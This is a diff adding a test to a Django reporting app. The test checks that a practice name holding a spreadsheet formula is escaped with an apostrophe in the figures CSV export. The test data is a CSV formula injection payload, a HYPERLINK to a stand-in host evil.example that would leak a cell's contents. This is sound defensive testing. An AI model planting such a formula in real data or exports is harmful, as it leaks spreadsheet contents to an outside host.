@@ -193,3 +193,15 @@ def test_the_report_shows_what_is_left_of_the_budget_without_a_warning(
     assert "govuk-warning-text" not in html
     assert "£300.00 of a £150,000.00 budget" in html
     assert "£149,500.00" in html
+
+
+def test_a_practice_name_never_runs_as_a_formula_in_the_figures_csv(
+    coordinator_client: Client, breaks: Setting
+) -> None:
+    breaks.practice.name = '=HYPERLINK("http://evil.example/?"&B2,"Surgery")'
+    breaks.practice.save()
+    referral(breaks, ReferralStatus.PAID, amount="300")
+    response = coordinator_client.get(reverse("breaks:report-csv", args=[breaks.scheme.pk]))
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    names = [row[1] for row in rows if row[0] == "practice"]
+    assert names == ["'" + breaks.practice.name]
